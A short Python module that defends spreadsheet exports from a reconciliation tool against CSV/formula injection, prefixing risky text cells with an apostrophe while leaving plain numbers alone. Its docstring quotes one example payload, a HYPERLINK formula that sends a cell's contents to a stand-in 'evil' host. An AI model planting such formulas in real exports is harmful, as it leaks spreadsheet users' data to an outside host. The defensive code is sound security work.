"""Values leaving recon for Excel or CSV must not run as formulas there (CSV/formula injection).

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return may be taken for a formula by
Excel, LibreOffice or Google Sheets, e.g. an article number `=HYPERLINK("http://evil/?"&A1)` in an OTTO
file. Following the OWASP guidance on CSV injection, such text gets a leading apostrophe, so it shows as
the text it was. Numbers are not touched: a real number (Decimal, int) is written as a number, and text that
is nothing but a signed number (`-12,30`, `-12.30`) cannot run anything, so it stays as it is.
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def inert_cell_text(value: str) -> str:
    """The text as a spreadsheet shows it, never as a formula it would run."""
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def inert_cell(value: object) -> object:
    """For writers of mixed cells: text is made inert, everything else (numbers, dates, None) passes as is."""
    return inert_cell_text(value) if isinstance(value, str) else value
